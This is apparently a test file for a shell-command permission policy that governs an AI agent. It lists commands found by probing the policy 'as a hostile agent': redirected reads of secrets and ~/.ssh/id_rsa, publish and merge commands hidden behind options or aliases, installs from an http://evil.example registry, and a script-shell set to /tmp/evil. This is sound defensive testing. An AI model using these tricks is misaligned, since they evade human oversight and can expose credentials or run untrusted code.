/**
 * Found by probing the policy as a hostile agent after `decision: ask` landed:
 * - an input redirection is a read the shell does for the command (`npm test < secrets/k`), so
 *   the read rules decide it as they decide the CLI's own reads;
 * - a deny or ask rule naming a subcommand catches it behind options (`npm --registry=x
 *   publish`, `gh -R o/r pr merge`), where a broad allow rule covers the program;
 * - npm's install location (`--prefix DIR`, `-C DIR`, `--global`) and registry are writes and
 *   URLs the rules decide, not words an ask or allow rule waves through.
 */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import type { CompiledPolicy } from '../../src/policy/index.js'
import { compile, shell, tempWorkspace, writeFiles } from './helpers.js'

const POLICY = `version: 1
default: deny
rules:
  - { id: tests, decision: allow, shell: ["npm test", "npm *", "gh *", "git *", "yarn *", "pnpm *", "cargo *"] }
  - { id: no-publish, decision: deny, shell: ["npm publish*", "gh pr merge*", "git push*", "cargo publish*"] }
  - { id: ask-release, decision: ask, shell: ["gh release *"] }
  - { id: ask-install, decision: ask, shell: ["npm install *"] }
  - { id: secrets, decision: deny, read: ["secrets/**"] }
  - { id: ask-keys, decision: ask, read: ["keys/**"] }
  - { id: registry, decision: allow, url: ["registry.npmjs.org"] }
  - { id: sources, decision: allow, write: ["src/**"] }
`

let ws: ReturnType<typeof tempWorkspace>
let outside: string
let p: CompiledPolicy
beforeAll(async () => {
  ws = tempWorkspace()
  outside = mkdtempSync(path.join(os.tmpdir(), 'policy-outside-'))
  writeFiles(ws.dir, { 'secrets/k': 'k', 'keys/k': 'k', 'src/a': 'a', 'Secrets/x': 'x' })
  mkdirSync(path.join(outside, 'inner'))
  symlinkSync(path.join(ws.dir, 'secrets'), path.join(ws.dir, 'src', 'hidden'))
  symlinkSync(outside, path.join(ws.dir, 'src', 'out'))
  p = await compile(POLICY, ws.dir)
})
afterAll(() => {
  ws.cleanup()
  rmSync(outside, { recursive: true, force: true })
})

const decide = (command: string) => {
  const d = p.decide(shell(command))
  return [d.decision, d.rule]
}

describe('input redirections are reads', () => {
  it.each<[string, string, string]>([
    ['npm test < secrets/k', 'deny', 'secrets'],
    ['npm test 3<secrets/k', 'deny', 'secrets'],
    ['npm test 0< secrets/k', 'deny', 'secrets'],
    ['npm test < ./secrets/../secrets/k', 'deny', 'secrets'],
    ['npm test < src/hidden/k', 'deny', 'secrets'],
    ['cd src && npm test < ../secrets/k', 'deny', 'secrets'],
    ['npm test < /srv/data/passwd', 'deny', 'outside-workspace'],
    ['npm test < src/out/inner', 'deny', 'outside-workspace'],
    ['npm test < ~/.ssh/id_rsa', 'deny', 'sensitive-path'],
    ['npm test < /proc/self/environ', 'deny', 'sensitive-path'],
    // "$F" may be /dev/tcp/…: denied before the read rules are asked
    ['npm test < "$F"', 'deny', 'network-redirect'],
    ['npm test < src/$F', 'deny', 'dynamic-path'],
    ['npm test < keys/k', 'ask', 'ask-keys'],
    ['while read -r l; do echo "$l"; done < secrets/k', 'deny', 'secrets']
  ])('%s → %s (%s)', (command, decision, rule) => {
    expect(decide(command)).toEqual([decision, rule])
  })

  it('allows reads inside the working directory no rule names, and the input devices', () => {
    expect(decide('npm test < src/a')).toEqual(['allow', 'tests, workspace-read'])
    expect(decide('npm test < /dev/null')).toEqual(['allow', 'tests'])
    expect(decide('npm test <<< hello')).toEqual(['allow', 'tests'])
  })

  it('names the read in the segment that denies it', () => {
    const d = p.decide(shell('npm test 3<secrets/k'))
    expect(d.segments).toContainEqual(
      expect.objectContaining({ text: '3< secrets/k', decision: 'deny', rule: 'secrets' })
    )
  })
})

describe('a deny or ask rule naming a subcommand catches it behind options', () => {
  it.each<[string, string, string]>([
    ['npm --registry=https://registry.npmjs.org publish', 'deny', 'no-publish'],
    ['npm --prefix . publish', 'deny', 'no-publish'],
    ['npm -w x publish', 'deny', 'no-publish'],
    ['npm --workspace x publish --tag next', 'deny', 'no-publish'],
    ['gh -R o/r pr merge 1', 'deny', 'no-publish'],
    ['gh --repo o/r pr merge 1', 'deny', 'no-publish'],
    ['gh --repo=o/r pr merge', 'deny', 'no-publish'],
    ['gh pr -R o/r merge 1', 'deny', 'no-publish'],
    ['/usr/bin/gh -R o/r pr merge 1', 'deny', 'no-publish'],
    ['gh -R o/r release create v1', 'ask', 'ask-release'],
    ['npm --loglevel silent install left-pad', 'ask', 'ask-install']
  ])('%s → %s (%s)', (command, decision, rule) => {
    expect(decide(command)).toEqual([decision, rule])
  })

  it.each<[string, string, string]>([
    // options only known at run time are left out as well
    ['gh -R "$REPO" pr merge 1', 'deny', 'no-publish'],
    ['gh --repo=$R pr merge', 'deny', 'no-publish'],
    ['npm --registry=$R publish', 'deny', 'no-publish'],
    ['npm --otp=$(cat src/otp) publish', 'deny', 'no-publish'],
    ['npm --loglevel=$L install x', 'ask', 'ask-install'],
    // npm's abbreviations and aliases are its commands
    ['npm pub', 'deny', 'no-publish'],
    ['npm publ --tag next', 'deny', 'no-publish'],
    ['npm i -S left-pad', 'ask', 'ask-install'],
    ['npm add left-pad', 'ask', 'ask-install'],
    ['npm isntall left-pad', 'ask', 'ask-install'],
    ['cargo +nightly publish', 'deny', 'no-publish'],
    ['npm --color pub', 'deny', 'no-publish'],
    ['npm -y false pub', 'deny', 'no-publish'],
    ['npm --yes=publish', 'deny', 'no-publish'],
    ['npm -d=pub', 'deny', 'no-publish'],
    ['npm -- pub', 'deny', 'no-publish'],
    ['npm pub x$D', 'deny', 'no-publish'],
    ['npm publ "./$D"', 'deny', 'no-publish'],
    ['npm --color i evil', 'ask', 'ask-install'],
    ['npm -- i evil', 'ask', 'ask-install'],
    // install-test installs, then tests (third review)
    ['npm it evil-pkg', 'ask', 'ask-install'],
    ['npm installTest evil-pkg', 'ask', 'ask-install']
  ])('%s → %s (%s)', (command, decision, rule) => {
    expect(decide(command)).toEqual([decision, rule])
  })

  it('leaves the commands around them to the allow rules', () => {
    expect(decide('gh -R o/r pr view 1')).toEqual(['allow', 'tests'])
    expect(decide('npm --workspace x test')).toEqual(['allow', 'tests'])
    expect(decide('gh pr list --label merge')).toEqual(['allow', 'tests'])
  })
})

describe("npm's install location and registry", () => {
  it.each<[string, string, string]>([
    ['npm install --prefix /etc x', 'deny', 'outside-workspace'],
    ['npm install -C /etc x', 'deny', 'outside-workspace'],
    ['npm install --prefix=/etc x', 'deny', 'outside-workspace'],
    ['npm --prefix /etc install x', 'deny', 'outside-workspace'],
    ['npm --prefi /etc install x', 'deny', 'outside-workspace'],
    ['npm i -sC /etc x', 'deny', 'outside-workspace'],
    ['npm --loglevel="$L" ci --prefix /etc', 'deny', 'outside-workspace'],
    ['npm ci --prefix secrets', 'deny', 'default'],
    ['pnpm --dir /etc install', 'deny', 'outside-workspace'],
    ['yarn --cwd /etc add x', 'deny', 'outside-workspace'],
    ['npm install -g x', 'deny', 'writes-unknown'],
    ['npm i --global x', 'deny', 'writes-unknown'],
    ['npm install --location=global x', 'deny', 'writes-unknown'],
    ['npm install -L global x', 'deny', 'writes-unknown'],
    ['yarn global add x', 'deny', 'writes-unknown'],
    ['npm install x --registry=http://evil.example', 'deny', 'default'],
    ['npm install x --registry http://evil.example', 'deny', 'default'],
    ['npm install x --@acme:registry=http://evil.example', 'deny', 'default'],
    ['npm install x --reg http://evil.example', 'deny', 'default'],
    // npm's reading depends on each option's type: every reading is checked (second review)
    ['npm run build --message --script-shell=/tmp/evil', 'deny', 'runs-code'],
    ['npm --tag --userconfig=/tmp/x/rc test', 'deny', 'runs-code'],
    ['npm --tag -g install evilpkg', 'deny', 'writes-unknown'],
    ['npm install --message -g evilpkg', 'deny', 'writes-unknown'],
    ['npm --color --prefix /tmp/x install', 'deny', 'outside-workspace'],
    ['npm --tag --registry=https://evil.example.com install', 'deny', 'default'],
    ['npm --tag=-g install evilpkg', 'deny', 'writes-unknown'],
    ['npm -f true config set script-shell /tmp/evil', 'deny', 'runs-code'],
    ['npm -g true install evilpkg', 'deny', 'writes-unknown'],
    ['npm --global=install evilpkg', 'deny', 'writes-unknown'],
    ['npm --long=set script-shell /tmp/evil', 'deny', 'runs-code'],
    ['npm --long=ci --prefix /tmp/x', 'deny', 'outside-workspace'],
    ['npm -- config set script-shell /tmp/evil', 'deny', 'runs-code'],
    ['npm -- explore pkg -- sh -c id', 'deny', 'runs-code'],
    // npm writes its debug log (and cache) where it is told (third review)
    ['npm --logs-dir=.github/workflows test', 'deny', 'default'],
    ['npm --logs-d=.github test', 'deny', 'default'],
    ['npm --cache=.git/hooks test', 'deny', 'default'],
    // commands that reset the working tree to a commit the agent made (third review)
    ['git checkout -f', 'deny', 'writes-unknown'],
    ['git stash', 'deny', 'writes-unknown'],
    ['git stash push', 'deny', 'writes-unknown'],
    ['git switch -f -c y', 'deny', 'writes-unknown'],
    ['git switch --orphan x', 'deny', 'writes-unknown'],
    ['npm -g -- install evilpkg', 'deny', 'writes-unknown'],
    // a word after an option may be its value: every reading of the subcommand is checked
    ['npm --prefix x config set script-shell ./e', 'deny', 'runs-code'],
    ['npm --cache x exec -c id', 'deny', 'runs-code']
  ])('%s → %s (%s)', (command, decision, rule) => {
    expect(decide(command)).toEqual([decision, rule])
  })

  it('lets what the rules allow through', () => {
    expect(decide('npm ci --prefix src/app')).toEqual(['allow', 'tests, sources'])
    expect(decide('npm install --registry=https://registry.npmjs.org left-pad')).toEqual([
      'ask',
      'ask-install'
    ])
    expect(decide('npm run build --prefix /etc')).toEqual(['allow', 'tests'])
    expect(decide('npm install --global=false left-pad')).toEqual(['ask', 'ask-install'])
  })
})
